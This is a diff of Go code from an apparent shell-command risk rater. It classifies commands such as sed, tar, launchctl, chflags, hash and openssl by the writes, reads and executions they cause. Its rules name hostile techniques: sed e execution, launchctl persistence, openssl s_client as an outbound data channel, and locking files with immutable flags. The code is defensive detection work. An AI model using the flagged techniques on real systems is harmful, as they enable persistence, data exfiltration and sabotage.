+		return
+	}
+}
+
+// rgCommand rates ripgrep: --pre runs a command on every file searched.
+func rgCommand(c *call) {
+	for i, w := range c.args {
+		var pre word
+		switch {
+		case w.s == "--pre" && i+1 < len(c.args):
+			pre = c.args[i+1]
+		case strings.HasPrefix(w.s, "--pre="):
+			pre = word{s: w.s[len("--pre="):], hole: w.hole, span: w.span}
+		default:
+			continue
+		}
+		if pre.s == "" {
+			continue
+		}
+		c.add(level.Caution, "rg-pre", "rg --pre: runs %s on every file searched", display(pre.s))
+		c.a.call([]word{pre, {s: holeMark, hole: true, glob: true}}, c.span, pipeCtx{})
+	}
+}
+
+// plutilCommand rates plutil: -p, -lint, -type read; -convert, -insert,
+// -replace, -remove, -create and -extract (without -o -) write.
+func plutilCommand(c *call) {
+	mode := ""
+	var out word
+	hasOut := false
+	args := c.args
+	for i, w := range args {
+		switch w.s {
+		case "-extract":
+			if mode == "" {
+				mode = "extract"
+			}
+		case "-convert", "-insert", "-replace", "-remove", "-create", "-append":
+			mode = "write"
+		case "-o":
+			if i+1 < len(args) {
+				out, hasOut = args[i+1], true
+			}
+		}
+	}
+	switch {
+	case hasOut && out.s != "-" && !isDevice(out.s):
+		c.add(level.Caution, "plutil", "plutil: writes a property list")
+		c.a.write(out, c.span, "plutil writes")
+	case hasOut:
+	case mode != "" && len(args) > 0:
+		c.add(level.Caution, "plutil", "plutil: changes a property list in place")
+		last := args[len(args)-1]
+		c.a.write(last, c.span, "plutil changes")
+	}
+}
+
+// plistBuddyCommand rates /usr/libexec/PlistBuddy: commands other than
+// Print change the file.
+func plistBuddyCommand(c *call) {
+	write, cmds := false, 0
+	var file word
+	hasFile := false
+	for i := 0; i < len(c.args); i++ {
+		w := c.args[i]
+		switch {
+		case w.s == "-c" && i+1 < len(c.args):
+			cmds++
+			cmd := c.args[i+1]
+			f := strings.Fields(cmd.s)
+			if cmd.hole || len(f) == 0 || !inList(strings.ToLower(f[0]), "print", "help", "exit", "quit") {
+				write = true
+			}
+			i++
+		case strings.HasPrefix(w.s, "-"):
+		default:
+			file, hasFile = w, true
+		}
+	}
+	if cmds == 0 {
+		write = true // interactive
+	}
+	if write {
+		c.add(level.Caution, "plistbuddy", "PlistBuddy: edits a property list")
+		if hasFile {
+			c.a.write(file, c.span, "PlistBuddy changes")
+		}
+	}
+}
+
+// sortCommand rates sort -o FILE.
+func sortCommand(c *call) {
+	long := func(n string) bool {
+		return inList(n, "--output", "--key", "--field-separator", "--temporary-directory", "--buffer-size", "--files0-from", "--parallel", "--batch-size", "--compress-program", "--random-source")
+	}
+	shortOpts(c.args, "oktTS", long, func(opt string, v word, has bool) {
+		switch {
+		case (opt == "-o" || opt == "--output") && has:
+			c.add(level.Caution, "sort", "sort -o: writes a file")
+			c.a.write(v, c.span, "sort -o writes")
+		case opt == "--compress-program" && has:
+			c.a.call([]word{v}, c.span, pipeCtx{})
+		}
+	})
+}
+
+// uniqCommand rates uniq IN OUT: the second operand is written.
+func uniqCommand(c *call) {
+	var ops []word
+	shortOpts(c.args, "fsw", func(n string) bool { return inList(n, "--skip-fields", "--skip-chars", "--check-chars") }, func(opt string, v word, has bool) {
+		if opt == "" {
+			ops = append(ops, v)
+		}
+	})
+	if len(ops) > 1 && ops[1].s != "-" && !isDevice(ops[1].s) {
+		c.add(level.Caution, "uniq", "uniq: writes a file")
+		c.a.write(ops[1], c.span, "uniq writes")
+	}
+}
+
+// base64Command rates base64 -o FILE (macOS) and --output.
+func base64Command(c *call) {
+	shortOpts(c.args, "ioBbw", func(n string) bool { return inList(n, "--input", "--output", "--break", "--wrap") }, func(opt string, v word, has bool) {
+		if (opt == "-o" || opt == "--output") && has && v.s != "-" && !isDevice(v.s) {
+			c.add(level.Caution, "base64", "base64 -o: writes a file")
+			c.a.write(v, c.span, "base64 writes")
+			if !v.hole {
+				c.a.setFile(v.s, fileComputed)
+			}
+		}
+	})
+}
+
+// xxdCommand rates xxd IN OUT: the second operand is written.
+func xxdCommand(c *call) {
+	var ops []word
+	shortOpts(c.args, "cglsonR", nil, func(opt string, v word, has bool) {
+		if opt == "" {
+			ops = append(ops, v)
+		}
+	})
+	if len(ops) > 1 && ops[1].s != "-" && !isDevice(ops[1].s) {
+		c.add(level.Caution, "xxd", "xxd: writes a file")
+		c.a.write(ops[1], c.span, "xxd writes")
+		if !ops[1].hole {
+			c.a.setFile(ops[1].s, fileComputed)
+		}
+	}
+}
+
+// sedCommand rates sed: -i edits files; the script's w, W and s///w write
+// files, r and R read them, e and s///e (GNU) run commands.
+func sedCommand(c *call) {
+	var buf [4]word
+	scripts, files := buf[:0:1], buf[1:1]
+	inplace, fromFile := false, false
+	args := c.args
+	for i := 0; i < len(args); i++ {
+		w := args[i]
+		s := w.s
+		if w.hole || !strings.HasPrefix(s, "-") || s == "-" {
+			if len(scripts) == 0 && !fromFile {
+				scripts = append(scripts, w)
+			} else {
+				files = append(files, w)
+			}
+			continue
+		}
+		if s == "--" {
+			for _, o := range args[i+1:] {
+				if len(scripts) == 0 && !fromFile {
+					scripts = append(scripts, o)
+				} else {
+					files = append(files, o)
+				}
+			}
+			break
+		}
+		if strings.HasPrefix(s, "--") {
+			name, val, has := strings.Cut(s, "=")
+			switch name {
+			case "--expression":
+				if has {
+					scripts = append(scripts, word{s: val, hole: w.hole})
+				} else if i+1 < len(args) {
+					scripts = append(scripts, args[i+1])
+					i++
+				}
+			case "--file":
+				fromFile = true
+				if !has {
+					i++
+				}
+			case "--in-place":
+				inplace = true
+			case "--line-length":
+				if !has {
+					i++
+				}
+			}
+			continue
+		}
+		letters := s[1:]
+		for j := 0; j < len(letters); j++ {
+			l := letters[j]
+			rest := letters[j+1:]
+			switch l {
+			case 'e', 'f':
+				v := word{s: rest, span: w.span}
+				if rest == "" && i+1 < len(args) {
+					i++
+					v = args[i]
+				}
+				if l == 'e' {
+					scripts = append(scripts, v)
+				} else {
+					fromFile = true
+				}
+				j = len(letters)
+			case 'i', 'I':
+				inplace = true
+				// BSD sed -i takes the backup suffix as the next word:
+				// sed -i '' … and sed -i .bak …
+				if rest == "" && i+1 < len(args) && (args[i+1].s == "" || strings.HasPrefix(args[i+1].s, ".")) {
+					i++
+				}
+				j = len(letters)
+			case 'l':
+				if rest == "" {
+					i++
+				}
+				j = len(letters)
+			}
+		}
+	}
+	if fromFile {
+		c.add(level.Caution, "sed-file", "%s runs a sed script from a file", c.name)
+	}
+	if inplace {
+		c.add(level.Caution, "sed", "sed -i: edits files in place")
+		for _, f := range files {
+			c.a.write(f, c.span, "edits")
+		}
+	}
+	for _, sc := range scripts {
+		if sc.hole {
+			c.add(level.Caution, "sed-computed", "%s script computed at run time", c.name)
+			continue
+		}
+		c.sedScript(sc.s)
+	}
+}
+
+// sedScript finds the file names and commands in a sed script.
+func (c *call) sedScript(s string) {
+	restOfLine := func(i int) (string, int) {
+		j := strings.IndexByte(s[i:], '\n')
+		if j < 0 {
+			return strings.TrimSpace(s[i:]), len(s)
+		}
+		return strings.TrimSpace(s[i : i+j]), i + j
+	}
+	// skipDelim skips a delimited part (/re/, s's pattern and replacement).
+	skipDelim := func(i int, d byte) int {
+		for i < len(s) && s[i] != d {
+			if s[i] == '\\' {
+				i++
+			}
+			i++
+		}
+		return i + 1
+	}
+	for i := 0; i < len(s); {
+		ch := s[i]
+		switch {
+		case ch == ' ' || ch == '\t' || ch == '\n' || ch == ';' || ch == '{' || ch == '}' || ch == '!' || ch == ',' || ch == '$' || ch == '+' || ch == '~' || ch >= '0' && ch <= '9':
+			i++
+		case ch == '/':
+			i = skipDelim(i+1, '/')
+			if i < len(s) && (s[i] == 'I' || s[i] == 'M') {
+				i++
+			}
+		case ch == '\\' && i+1 < len(s):
+			i = skipDelim(i+2, s[i+1])
+		case ch == '#':
+			_, i = restOfLine(i + 1)
+		case ch == ':' || ch == 'b' || ch == 't' || ch == 'T':
+			// A label ends at ; (GNU) or at the end of the line (BSD):
+			// taking the shorter reading sees any command after it.
+			i++
+			for i < len(s) && s[i] != ';' && s[i] != '\n' && s[i] != '}' {
+				i++
+			}
+		case ch == 'a' || ch == 'i' || ch == 'c':
+			// Text to the end of the line; a\ continues on the next lines.
+			var text string
+			text, i = restOfLine(i + 1)
+			for strings.HasSuffix(text, "\\") && i < len(s) {
+				text, i = restOfLine(i + 1)
+			}
+		case ch == 's' || ch == 'y':
+			if i+1 >= len(s) {
+				return
+			}
+			d := s[i+1]
+			i = skipDelim(i+2, d)
+			i = skipDelim(i, d)
+			for i < len(s) && s[i] != ';' && s[i] != '\n' && s[i] != '}' {
+				switch s[i] {
+				case 'w':
+					var f string
+					f, i = restOfLine(i + 1)
+					c.sedFile(f, true)
+					continue
+				case 'e':
+					c.add(level.Dangerous, "sed-exec", "%s s///e: runs the pattern space as a command", c.name)
+				}
+				i++
+			}
+		case ch == 'w' || ch == 'W' || ch == 'r' || ch == 'R':
+			var f string
+			f, i = restOfLine(i + 1)
+			c.sedFile(f, ch == 'w' || ch == 'W')
+		case ch == 'e':
+			var cmd string
+			cmd, i = restOfLine(i + 1)
+			c.add(level.Dangerous, "sed-exec", "%s e: runs a command", c.name)
+			c.nestedText(cmd, "sed e")
+		default:
+			i++
+		}
+	}
+}
+
+func (c *call) sedFile(f string, write bool) {
+	if f == "" || isDevice(f) || f == "/dev/stdout" {
+		return
+	}
+	if write {
+		c.add(level.Caution, "sed-write", "%s script writes %s", c.name, display(f))
+		c.a.write(word{s: f}, c.span, "sed writes to")
+		return
+	}
+	c.a.read(word{s: f}, c.span)
+}
+
+// tarCommand rates tar: extracting writes into -C DIR (or the working
+// directory); creating writes the archive.
+func tarCommand(c *call) {
+	c.add(level.Caution, "tar", "tar: archives or extracts files")
+	var mode byte
+	var archive, dir word
+	hasArchive, hasDir := false, false
+	setMode := func(l byte) {
+		switch l {
+		case 'x', 'c', 'r', 'u':
+			mode = l
+		case 't':
+			if mode == 0 {
+				mode = l
+			}
+		}
+	}
+	args := c.args
+	i := 0
+	take := func() (word, bool) {
+		if i < len(args) {
+			i++
+			return args[i-1], true
+		}
+		return word{}, false
+	}
+	assign := func(l byte, v word) {
+		switch l {
+		case 'f':
+			archive, hasArchive = v, true
+		case 'C':
+			dir, hasDir = v, true
+		}
+	}
+	const valued = "fCbTXIs"
+	// The first word may be a bundle without a dash: tar xzf a.tgz
+	if len(args) > 0 && !args[0].hole && !strings.HasPrefix(args[0].s, "-") {
+		i = 1
+		for _, l := range []byte(args[0].s) {
+			setMode(l)
+			if strings.IndexByte(valued, l) >= 0 {
+				if v, ok := take(); ok {
+					assign(l, v)
+				}
+			}
+		}
+	}
+	for i < len(args) {
+		w := args[i]
+		i++
+		s := w.s
+		switch {
+		case w.hole || !strings.HasPrefix(s, "-") || s == "-":
+		case strings.HasPrefix(s, "--"):
+			name, val, has := strings.Cut(s, "=")
+			v := word{s: val, hole: w.hole, span: w.span}
+			switch name {
+			case "--extract", "--get":
+				mode = 'x'
+			case "--create":
+				mode = 'c'
+			case "--append":
+				mode = 'r'
+			case "--update":
+				mode = 'u'
+			case "--list":
+				setMode('t')
+			case "--file", "--directory", "--files-from", "--exclude-from", "--exclude":
+				if !has {
+					if v, has = take(); !has {
+						continue
+					}
+				}
+				if name == "--file" {
+					assign('f', v)
+				} else if name == "--directory" {
+					assign('C', v)
+				}
+			}
+		default:
+			letters := s[1:]
+			for j := 0; j < len(letters); j++ {
+				l := letters[j]
+				setMode(l)
+				if strings.IndexByte(valued, l) < 0 {
+					continue
+				}
+				v := word{s: letters[j+1:], span: w.span}
+				if v.s == "" {
+					var ok bool
+					if v, ok = take(); !ok {
+						break
+					}
+				}
+				assign(l, v)
+				break
+			}
+		}
+	}
+	switch mode {
+	case 'x':
+		switch {
+		case hasDir:
+			c.a.write(dir, c.span, "tar extracts into")
+		case c.a.cwd != "":
+			c.a.write(word{s: c.a.cwd}, c.span, "tar extracts into")
+		}
+	case 'c', 'r', 'u':
+		if hasArchive && archive.s != "-" && !isDevice(archive.s) {
+			c.a.write(archive, c.span, "tar writes the archive")
+		}
+	}
+}
+
+// unzipCommand rates unzip: it writes into -d DIR or the working
+// directory.
+func unzipCommand(c *call) {
+	c.add(level.Caution, "unzip", "unzip: extracts files")
+	list := false
+	for i, w := range c.args {
+		switch {
+		case w.s == "-d" && i+1 < len(c.args):
+			c.a.write(c.args[i+1], c.span, "unzip extracts into")
+			return
+		case strings.HasPrefix(w.s, "-d") && len(w.s) > 2:
+			c.a.write(word{s: w.s[2:], hole: w.hole, span: w.span}, c.span, "unzip extracts into")
+			return
+		case strings.HasPrefix(w.s, "-") && !strings.HasPrefix(w.s, "--") && strings.ContainsAny(w.s[1:], "lptvZz"):
+			list = true
+		}
+	}
+	if !list && c.a.cwd != "" {
+		c.a.write(word{s: c.a.cwd}, c.span, "unzip extracts into")
+	}
+}
+
+// chflagsCommand rates chflags: recursive changes and immutable flags
+// (schg, uchg) lock files away from their owner.
+func chflagsCommand(c *call) {
+	ops := c.operands()
+	flags := ""
+	if len(ops) > 0 {
+		flags = strings.ToLower(ops[0].s)
+	}
+	lock := false
+	for _, f := range strings.Split(flags, ",") {
+		if inList(f, "schg", "schange", "simmutable", "uchg", "uchange", "uimmutable", "sappnd", "sappend", "uappnd", "uappend", "sunlnk", "sunlink") {
+			lock = true
+		}
+	}
+	switch {
+	case lock:
+		c.add(level.Dangerous, "chflags", "chflags %s: locks files so that they cannot be changed or deleted", display(flags))
+	case hasShort(c.args, 'R'):
+		c.add(level.Dangerous, "chflags", "chflags -R %s: changes the flags of every file in a folder", display(flags))
+	default:
+		c.add(level.Caution, "chflags", "chflags: changes file flags")
+	}
+}
+
+// hashCommand rates hash -p (bash) and hash name=path (zsh): a command
+// name now runs another program.
+func hashCommand(c *call) {
+	for _, w := range c.args {
+		if w.s == "-p" || strings.Contains(w.s, "=") {
+			c.add(level.Dangerous, "hash", "hash: makes a command name run another program")
+			return
+		}
+	}
+}
+
+// launchctlCommand rates launchctl; asuser and bsexec run a command.
+func launchctlCommand(c *call) {
+	s := sub(c.args)
+	switch s {
+	case "list", "print", "print-disabled", "blame", "version", "help", "getenv", "print-cache", "dumpstate", "procinfo", "hostinfo", "resolveport", "examine", "":
+		return
+	case "load", "bootstrap", "submit", "enable":
+		c.add(level.Destructive, "launchctl", "launchctl %s: installs or enables a background service (persistence)", s)
+		return
+	case "asuser", "bsexec":
+		c.add(level.Dangerous, "launchctl", "launchctl %s: runs a command in another session", s)
+		for i, w := range c.args {
+			if strings.EqualFold(w.s, s) && i+2 < len(c.args) {
+				c.a.call(c.args[i+2:], c.span, c.pc)
+				break
+			}
+		}
+		return
+	}
+	c.add(level.Dangerous, "launchctl", "launchctl %s: changes background services", display(s))
+}
+
+// opensslCommand rates openssl: -out writes a file, s_client and s_server
+// talk to the network.
+func opensslCommand(c *call) {
+	s := sub(c.args)
+	switch s {
+	case "version", "help", "list", "":
+		return
+	case "s_client", "s_server", "s_time":
+		c.add(level.Dangerous, "openssl-connect", "openssl %s: opens a network connection that carries stdin", s)
+		c.a.uploadAt(c.span)
+		return
+	}
+	c.add(level.Caution, "openssl", "openssl %s: works with keys, certificates or encryption", display(s))
+	for i, w := range c.args {
+		if i+1 >= len(c.args) {
+			break
+		}
+		switch w.s {
+		case "-out", "-keyout", "-signkey":
+			if w.s != "-signkey" && !isDevice(c.args[i+1].s) {
+				c.a.write(c.args[i+1], c.span, "openssl writes")
+			}
+		case "-in", "-key", "-inkey", "-passin":
+			c.a.read(c.args[i+1], c.span)
+		}
+	}
 }
